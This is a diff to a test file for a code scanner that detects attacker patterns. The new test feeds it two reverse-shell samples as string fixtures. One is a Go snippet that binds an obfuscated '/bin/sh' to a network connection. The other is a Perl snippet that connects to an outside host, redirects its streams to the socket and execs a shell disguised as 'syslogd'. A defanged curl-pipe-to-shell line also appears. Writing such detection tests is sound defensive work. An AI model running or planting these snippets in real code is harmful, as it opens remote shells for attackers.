@@ -52,6 +52,26 @@ describe('attacker forms, sixth set', () => {
       .toEqual(['error remote_exec resources/c.sh:1:1'])
   })
 
+  it('finds a Go command wired to a connection whatever it runs, and Perl streams duplicated from a socket', () => {
+    const go = [
+      'c, err := net.Dial("tcp", addr)',
+      'if err == nil {',
+      '  sh := exec.Command(string([]byte{47, 98, 105, 110, 47, 115, 104}))',
+      '  sh.Stdin, sh.Stdout, sh.Stderr = c, c, c',
+      '  sh.Run()',
+      '}',
+    ].join('\n')
+    const pl = [
+      'my $c = IO::Socket::INET->new(PeerAddr => \'console.ops-desk.live\', PeerPort => 7443) or return;',
+      'open(STDIN, \'<&\', $c); open(STDOUT, \'>&\', $c);',
+      'exec({\'/bin/sh\'} \'syslogd\', \'-i\');',
+    ].join('\n')
+    expect(hitsOf('reverse_shell', { 'scripts/side.go': go, 'scripts/tail.pl': pl })).toEqual([
+      'error reverse_shell scripts/side.go:4:3',
+      'error reverse_shell scripts/tail.pl:2:1',
+    ])
+  })
+
   it('lowers defanged indicators and a table of phrasings under a treat-as-data lead', () => {
     expect(hitsOf('remote_exec', skillMd('- Initial access: `curl hxxp://198.51.100[.]23/x.sh | sh` on an open API.')))
       .toEqual(['warning remote_exec SKILL.md:3:20'])
